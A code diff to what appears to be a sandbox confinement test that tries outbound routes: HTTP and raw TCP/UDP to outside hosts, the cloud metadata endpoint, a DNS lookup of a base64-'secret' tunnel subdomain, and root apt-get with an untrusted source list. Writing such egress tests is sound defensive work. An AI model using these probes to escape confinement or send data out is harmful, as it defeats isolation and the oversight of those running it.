@@ -45,11 +45,22 @@ function tcp(host: string, port: number): Promise<string> {
   });
 }
 
+/** Says something, and waits for an answer: that it was taken down alone does not tell that it arrived. */
+function talk(host: string, port: number): Promise<string> {
+  return new Promise((resolve, reject) => {
+    const socket = net.connect({ host, port }, () => socket.write('SSH-2.0-probe\r\n\r\n'));
+    socket.setTimeout(LATE_MS, () => reject(new Error('nothing came of it')));
+    socket.once('data', () => resolve('answered'));
+    socket.once('close', () => reject(new Error('it was closed')));
+    socket.once('error', reject);
+  });
+}
+
 /** A question to a name service, by hand: whatever comes back is an answer. */
 function udp(host: string): Promise<string> {
   return new Promise((resolve, reject) => {
     const socket = dgram.createSocket('udp4');
-    socket.once('message', () => resolve('answered'));
+    socket.once('message', (answer) => resolve([...answer.subarray(-4)].join('.')));
     socket.once('error', reject);
     setTimeout(() => reject(new Error('nothing came of it')), 900).unref();
     const query = Buffer.from('000101000001000000000000076578616d706c6503636f6d0000010001', 'hex');
@@ -91,6 +102,22 @@ await attempt('npm ci', async () => {
   return run('sh', ['-c', 'ls project/node_modules | wc -l']);
 });
 
+/** Where this machine has the program: not every one does. */
+async function attemptWith(command: string, work: () => Promise<unknown>): Promise<void> {
+  if (await run('sh', ['-c', `command -v ${command}`]).catch(() => null))
+    await attempt(command, work);
+}
+await attemptWith('go', () =>
+  run('env', ['GONOSUMDB=*', 'go', 'list', '-m', '-versions', 'example.com/thing']),
+);
+// As root, which a jail has not: apt has a configuration of its own for whom to trust.
+await attemptWith('sudo', async () => {
+  const list = 'deb [trusted=yes] https://deb.debian.org/things ./';
+  await run('sh', ['-c', `echo '${list}' > sources.list`]);
+  const own = ['Dir::Etc::sourcelist=/tmp/probe/sources.list', 'Dir::Etc::sourceparts=-'];
+  return run('sudo', ['-n', 'apt-get', 'update', '-qq', ...own.flatMap((one) => ['-o', one])]);
+});
+
 // What has not.
 await attempt('another host', () => curl('https://example.com/'));
 await attempt('another host in the clear', () => curl('http://example.com/'));
@@ -103,14 +130,17 @@ await attempt('metadata, directly', () => curl('http://169.254.169.254/', '--nop
 await attempt('link-local', () => curl('http://[fe80::1]/'));
 await attempt('link-local, directly', () => tcp('fe80::1%lo', 80));
 await attempt('a made-up name', () => curl('https://c2VjcmV0.tunnel.example/'));
-await attempt('a made-up name, looked up', () => lookup('c2VjcmV0.tunnel.example'));
+await attempt('a made-up name, looked up', async () => {
+  const { address } = await lookup('c2VjcmV0.tunnel.example');
+  return address;
+});
 await attempt('a made-up name, asked for at a name service', () => {
   const resolver = new Resolver({ timeout: 900, tries: 1 });
   resolver.setServers(['1.1.1.1']);
   return resolver.resolve4('c2VjcmV0.tunnel.example');
 });
-await attempt('raw TCP', () => tcp('1.1.1.1', 443));
-await attempt('raw TCP at another port', () => tcp('1.1.1.1', 22));
+await attempt('raw TCP', () => talk('1.1.1.1', 443));
+await attempt('raw TCP at another port', () => talk('1.1.1.1', 22));
 await attempt('raw UDP', () => udp('1.1.1.1'));
 for (const [name, port] of Object.entries(aims.ports)) {
   await attempt(`${name}, directly`, () => tcp('127.0.0.1', port));
